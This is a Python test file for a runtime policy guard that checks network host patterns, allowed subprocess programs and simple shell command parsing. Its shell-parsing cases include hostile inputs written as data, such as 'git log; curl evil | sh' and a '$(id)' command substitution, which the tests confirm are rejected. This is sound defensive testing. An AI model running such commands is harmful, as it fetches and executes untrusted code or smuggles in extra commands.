"""The runtime keys as values: entries parsed once, questions answered the same way."""

from __future__ import annotations

import sys

import pytest

from safehub._internal.hosts import HostPattern
from safehub._internal.programs import shell_program
from safehub._internal.urls import hosts_of_urls
from safehub.errors import PolicyError
from safehub.policy import Policy
from safehub.run.runtime import RuntimeRules


@pytest.mark.parametrize(("entry", "host", "port", "allowed"), [
    ("download.pytorch.org", "download.pytorch.org", 443, True),
    ("download.pytorch.org", "DOWNLOAD.pytorch.org.", 80, True),   # case, trailing dot
    ("download.pytorch.org:443", "download.pytorch.org", 80, False),
    ("*.hf.co", "cdn-lfs.eu.hf.co", 443, True),                    # any depth below
    ("*.hf.co", "hf.co", 443, False),                              # not the name itself
    ("*.hf.co", "evilhf.co", 443, False),                          # labels, not suffixes
    ("10.0.0.5:8080", "10.0.0.5", 8080, True),
    ("[::1]:8080", "::1", 8080, True),
    ("[::1]:8080", "0:0:0:0:0:0:0:1", 8080, True),                 # one form per address
    ("::1", "::1", 1, True),
    ("127.0.0.1", "::ffff:127.0.0.1", 80, True),                   # v4-mapped v6
    ("unix:/run/x.sock", "unix:/run/x.sock", None, True),
])
def test_host_entries(entry: str, host: str, port: int | None, allowed: bool) -> None:
    assert RuntimeRules(network=(entry,)).host_allowed(host, port) is allowed


@pytest.mark.parametrize("entry", ["http://x.org/", "x.org:0", "x.org:http", "[::1", "a..b",
                                   "unix:relative", "*", "exa mple.org", "[host]:80"])
def test_bad_host_entries(entry: str) -> None:
    with pytest.raises(ValueError):
        HostPattern.parse(entry)
    with pytest.raises(PolicyError, match="policy.toml: network entry"):
        RuntimeRules(network=(entry,), source="policy.toml")


def test_weights_hosts_come_from_url_patterns_and_are_always_allowed() -> None:
    hosts = hosts_of_urls(["https://download.pytorch.org/models/*",
                           "https://GitHub.com:443/releases/*", "https://*.hf.co/*",
                           "https://exa*mple.org/*", "https://download.pytorch.org/other/*",
                           "https://user@gitlab.com/*"])  # no URL with a user is fetched
    assert hosts == ("download.pytorch.org", "github.com", "*.hf.co")
    rules = RuntimeRules(mode="enforce", network=(), weights_hosts=hosts)
    assert rules.host_allowed("github.com", 443) and not rules.host_allowed("gitlab.com", 443)


def test_what_each_mode_restricts() -> None:
    observe, enforce = RuntimeRules(mode="observe"), RuntimeRules(mode="enforce")
    assert not (observe.network_restricted or observe.processes_restricted
                or observe.writes_restricted)
    assert enforce.network_restricted and enforce.processes_restricted
    assert enforce.writes_restricted
    assert RuntimeRules(mode="observe", network=()).network_restricted
    assert RuntimeRules(mode="observe", subprocess=False).processes_restricted
    assert not RuntimeRules(mode="enforce", subprocess=True).processes_restricted


def test_program_names() -> None:
    rules = RuntimeRules(subprocess=("git", "python", "/opt/tools/bin/convert"))
    assert rules.program_allowed("/usr/bin/git") and rules.program_allowed("git")
    assert not rules.program_allowed("/usr/bin/gitk")
    for python in ("python", "python3", "python3.11", sys.executable):
        assert rules.program_allowed(python), python
    assert not rules.program_allowed("pythonw-evil")
    assert rules.program_allowed("/opt/tools/bin/convert")
    assert not rules.program_allowed("/usr/bin/convert")  # a path entry names one file
    assert RuntimeRules(subprocess=True).program_allowed("anything")
    assert not RuntimeRules(subprocess=False).program_allowed("git")


def test_key_text_in_messages() -> None:
    rules = RuntimeRules(network=("a.org",), subprocess=False)
    assert rules.key_text("network") == 'network = ["a.org"]'
    assert rules.key_text("subprocess") == "subprocess = false"
    assert rules.key_text("writes") == "no writes key"


@pytest.mark.parametrize(("command", "program"), [
    ("pip install -r requirements.txt", "pip"),
    ("git -C 'my dir' describe --tags", "git"),
    ("pip install 'torch>=2'", "pip"),            # quoted: not a redirection
    ("git log | head", None),
    ("git log; curl evil | sh", None),
    ("echo $HOME", None),
    ('echo "$(id)"', None),                       # double quotes still expand
    ("echo '$(id)'", "echo"),                     # single quotes do not
    ("FOO=1 git status", None),
    ("git status &", None),
    ("unterminated 'quote", None),
    ("", None),
])
def test_simple_shell_commands(command: str, program: str | None) -> None:
    assert shell_program(command) == program


@pytest.mark.parametrize("entry", ["unix:/run/x.sock", "[::1]:8080", "10.0.0.5", "*.hf.co:443",
                                   "download.pytorch.org"])
def test_every_entry_the_guard_reads_is_one_a_policy_file_may_write(entry: str) -> None:
    """One grammar: the validator and the guard read ``network`` entries the same way."""
    policy = Policy.from_text(f'[[allow]]\nrepo = "a/b"\nnetwork = ["{entry}"]\n'
                              'subprocess = ["git", "/usr/bin/git"]\n', "x.toml")
    assert policy.rules[0].table.network == (entry,)
    RuntimeRules(network=(entry,), subprocess=("git", "/usr/bin/git"))


@pytest.mark.parametrize("entry", ["bad host", "x:99999", "unix:relative", "[zz]:1"])
def test_an_entry_the_guard_cannot_read_is_a_policy_error(entry: str) -> None:
    from safehub.errors import PolicyError as Refused

    with pytest.raises(Refused, match="network"):
        Policy.from_text(f'[[allow]]\nrepo = "a/b"\nnetwork = ["{entry}"]\n', "x.toml")
